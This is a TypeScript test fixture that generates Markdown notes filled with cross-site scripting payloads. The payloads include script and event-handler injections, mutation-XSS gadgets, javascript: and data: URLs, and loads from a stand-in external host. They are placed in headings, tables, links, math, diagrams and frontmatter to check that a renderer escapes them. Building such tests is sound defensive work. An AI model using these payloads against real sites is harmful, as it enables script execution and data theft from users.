// Notes of a hostile author: every payload at every place of a note that appears on a page.

/** A host that must never be contacted. */
export const ELSEWHERE = 'elsewhere.example'

type Payload = (id: number) => string

/**
 * Payloads that run code, contact the host or navigate away if they are not escaped. `pwned` notifies the test
 * (xss.spec.ts).
 */
const MARKUP: Payload[] = [
  (id) => `<script>pwned(${id})</script>`,
  (id) => `<ScRiPt/x>pwned(${id})</sCrIpT>`,
  (id) => `<script src=https://${ELSEWHERE}/${id}.js></script>`,
  (id) => `<img src=x onerror=pwned(${id})>`,
  (id) => `<img/src="x"/onerror="alert(${id})">`,
  (id) => `"><svg onload=pwned(${id})>`,
  (id) => `' onmouseover='pwned(${id})' x='`,
  (id) => `" autofocus tabindex="0" onfocus="pwned(${id})" x="`,
  (id) => `" style="animation-name:x" onanimationstart="pwned(${id})" x="`,
  (id) => `</code></pre><script>pwned(${id})</script>`,
  (id) => `</script><script>pwned(${id})</script>`,
  (id) => `<!--<script>--></script><script>pwned(${id})</script>`,
  (id) => `</title></style></textarea></noscript><img src=x onerror=pwned(${id})>`,
  (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(${id})&gt;">`,
  (id) => `<svg></p><style><a id="</style><img src=1 onerror=pwned(${id})>"></a></style></svg>`,
  (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned(${id})></style></form>`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=pwned(${id})>"></p></noscript>`,
  (id) => `<svg><animate onbegin=pwned(${id}) attributeName=x dur=1s></svg>`,
  (id) => `<svg><script>pwned(${id})</script></svg>`,
  (id) => `<svg><a xlink:href="javascript:pwned(${id})"><text y="9">x</text></a></svg>`,
  (id) => `<svg><use href="https://${ELSEWHERE}/${id}.svg#x"></use></svg>`,
  (id) => `<svg><foreignObject><iframe srcdoc="<script>top.pwned(${id})</script>"></iframe></foreignObject></svg>`,
  (id) => `<math href="javascript:pwned(${id})"><mi>x</mi></math>`,
  (id) => `<a href="javascript:pwned(${id})">x</a>`,
  (id) => `<iframe src="javascript:top.pwned(${id})"></iframe>`,
  (id) => `<iframe srcdoc="<script>top.pwned(${id})</script>"></iframe>`,
  (id) => `<iframe src=https://${ELSEWHERE}/${id}></iframe>`,
  (id) => `<!--><img src=x onerror=pwned(${id})>-->`,
  (id) => `<![CDATA[><script>pwned(${id})</script>]]>`,
  (id) => `&lt;script&gt;pwned(${id})&lt;/script&gt;`,
  (id) => `&#60;img src=x onerror=pwned(${id})&#62;`,
  (id) => `\\<img src=x onerror=pwned(${id})>`,
  (id) => `<scr\u0000ipt>pwned(${id})</scr\u0000ipt>`,
  (id) => `%3Cscript%3Epwned(${id})%3C/script%3E`,
  (id) => `<style>@import "https://${ELSEWHERE}/${id}.css";</style>`,
  (id) => `<p style="background:url(https://${ELSEWHERE}/${id}.png)">x</p>`,
  (id) => `<link rel=stylesheet href=https://${ELSEWHERE}/${id}.css>`,
  (id) => `<meta http-equiv="refresh" content="0;url=https://${ELSEWHERE}/${id}">`,
  (id) => `<base href="https://${ELSEWHERE}/${id}/">`,
  (id) => `<details open ontoggle=pwned(${id})>x</details>`,
  (id) => `<input autofocus onfocus=pwned(${id})>`,
  (id) => `<video autoplay onloadstart=pwned(${id})><source src=x onerror=pwned(${id})></video>`,
  (id) => `<object data="javascript:pwned(${id})"></object><embed src="javascript:pwned(${id})">`,
  (id) => `<form action="javascript:pwned(${id})"><button formaction="javascript:pwned(${id})">x</button></form>`,
  (id) => `<template><script>pwned(${id})</script></template>`,
  (id) => `<template shadowrootmode=open><img src=x onerror=pwned(${id})></template>`,
  (id) => `{{constructor.constructor("pwned(${id})")()}} \${pwned(${id})}`,
  (id) => `"]);pwned(${id});self.__next_f.push(["`,
  (id) => `\u2028pwned(${id})\u2029//`,
]
const ADDRESSES: Payload[] = [
  (id) => `javascript:pwned(${id})`,
  (id) => `JaVaScRiPt:pwned(${id})`,
  (id) => `javascript&colon;pwned(${id})`,
  (id) => `java&Tab;script:pwned(${id})`,
  (id) => `java&NewLine;script:pwned(${id})`,
  (id) => `&#106;avascript:pwned(${id})`,
  (id) => `&#x1;javascript:pwned(${id})`,
  (id) => `javascript\\:pwned(${id})`,
  (id) => `%6Aavascript:pwned(${id})`,
  (id) => `javascript://%0Apwned(${id})`,
  (id) => `vbscript:pwned(${id})`,
  (id) => `data:text/html,<script>top.pwned(${id})</script>`,
  (id) => `data:image/svg+xml,<svg/onload=pwned(${id})>`,
  (id) => `view-source:javascript:pwned(${id})`,
  (id) => `https://${ELSEWHERE}/${id}" onclick="pwned(${id})`,
  (id) => `//${ELSEWHERE}/${id}.png`,
]
const PAYLOADS = [...MARKUP, ...ADDRESSES]

type Place = (payload: string) => string

const quoted = (text: string) => `'${text.replaceAll("'", "''").replaceAll('\u0000', '')}'`

/** Places in a note's text, each in its own block. */
const PROSE: Place[] = [
  (payload) => `# ${payload}`,
  (payload) => payload,
  (payload) => `차 **${payload}** _${payload}_ ==${payload}==`,
  (payload) => `## ${payload}`,
  (payload) => `- ${payload}\n- [ ] ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `> [!note]- ${payload}\n> 글`,
  (payload) => `| a | ${payload} |\n| - | - |\n| ${payload} | b |`,
  (payload) => `차[^1]\n\n[^1]: ${payload}`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `글 \`${payload}\` 글`,
  (payload) => `<div>\n<kbd>${payload}</kbd> <b>${payload}</b>\n\n${payload}\n\n</div>`,
  (payload) => `<details open>\n<summary>${payload}</summary>\n\n**${payload}**\n\n</details>`,
  (payload) => `<table>\n<tr><td>${payload}</td></tr>${payload}\n</table>`,
  (payload) => `<mark ${payload}>글</mark> <p style="${payload}" class="${payload}" id="${payload}">글</p>`,
  (payload) => `<abbr title="${payload}">글</abbr> <u title='${payload}'>글</u> <a name="${payload}"></a>`,
]
const LINKED: Place[] = [
  (payload) => `\`\`\`${payload.replaceAll('`', '')}\nx\n\`\`\``,
  (payload) => `\`\`\`mermaid\ngraph LR\n  A["${payload}"] -->|${payload}| B\n  click A "${payload}"\n\`\`\``,
  (payload) => `$x = \\text{${payload}}$ 와 $\\href{${payload}}{x}$`,
  (payload) =>
    `$\\htmlData{x=${payload}}{y}$ $\\url{${payload}}$ $\\includegraphics{${payload}}$ $\\color{${payload}}{x}$`,
  (payload) => `[[plain|${payload}]] [[없음|${payload}]]`,
  (payload) => `[[${payload}]] ![[${payload}]] [[plain#${payload}|차]]`,
  (payload) => `![${payload}](cup.png) ![${payload}](https://${ELSEWHERE}/cup.png)`,
  (payload) => `[${payload}](https://${ELSEWHERE}) [${payload}](plain.md)`,
  (payload) => `[차](https://${ELSEWHERE} "${payload}") [차](https://${ELSEWHERE} '${payload}')`,
  (payload) => `[차](${payload}) [차](<${payload}>) ![차](${payload}) ![차](<${payload}>)`,
  (payload) => `<${payload}> [차][x] ![잔][x]\n\n[x]: <${payload}>`,
  (payload) => `[^${payload}] 글 ^${payload}`,
  (payload) => `<a href="${payload}">차</a> <a href='${payload}'>차</a> <a href=${payload}>차</a>`,
  (payload) => `<img src="${payload}" alt="${payload}"> <img src=${payload}>`,
  (payload) =>
    `<iframe src="${payload}" title="${payload}"></iframe>\n\n<video src="${payload}"></video> <object data="${payload}"></object>`,
  (payload) => `![[${payload}.mp3]] ![[tone.wav|${payload}]] ![[tone.wav#t=${payload}]] ![${payload}|250](tone.wav)`,
  (payload) => `[[paper.pdf#${payload}]] [${payload}](paper.pdf) ![[paper.pdf|${payload}]] ![[${payload}.pdf]]`,
  (payload) =>
    `<audio src="tone.wav" title="${payload}"></audio> <video title='${payload}'><source src="tone.wav"></video> <img src="//${ELSEWHERE}/x.png" alt="${payload}">`,
]
/** @param write  called for the stem, two options, the explanation of one of them, and the general explanation */
const question = (write: () => string) => `**Question:** Which leaf? ${write()}

**Options:**

- A) ${write()} first
- B) second ${write()}
- C) third

**정답: C) third**

💡 추가 설명:

- **Option A** - ${write()}
- **Option B** - 둘째
- **핵심 구분점** - ${write()}
`

/** Files that these notes refer to. Their bytes are a page that runs code. */
export const HOSTILE_FILES = ['tone.wav', 'paper.pdf']

export interface HostileVault {
  /** By path. */
  files: Map<string, string>
  /** The number of payloads. Each has its own number. */
  payloads: number
}

export function hostileVault(): HostileVault {
  let count = 0
  const next = (payload: Payload) => payload(++count)
  const files = new Map([['plain.md', '# Plain\n\n차.\n']])
  for (const [index, payload] of PAYLOADS.entries()) {
    const put = (places: Place[]) => places.map((place) => place(next(payload))).join('\n\n')
    const aliases = `aliases: [${quoted(next(payload))}]`
    const plain = question(() => next(payload))
    files.set(`prose/prose-${index}.md`, `---\ntags: [attack/prose]\n${aliases}\n---\n\n${put(PROSE)}\n\n${plain}`)
    const titled = `title: ${quoted(next(payload))}\ntags: [attack/linked, ${quoted(`attack/${next(payload)}`)}]`
    const linked = question(() => `[차](${next(payload)})`)
    files.set(fileName(index, next(payload)), `---\n${titled}\n---\n\n${put(LINKED)}\n\n${linked}`)
  }
  return { files, payloads: count }
}

/** A payload, reduced to characters that are allowed in a file name. */
const fileName = (index: number, payload: string) =>
  `linked/${payload.replaceAll('/', '∕').replaceAll('\u0000', '').slice(0, 60)} ${index}.md`
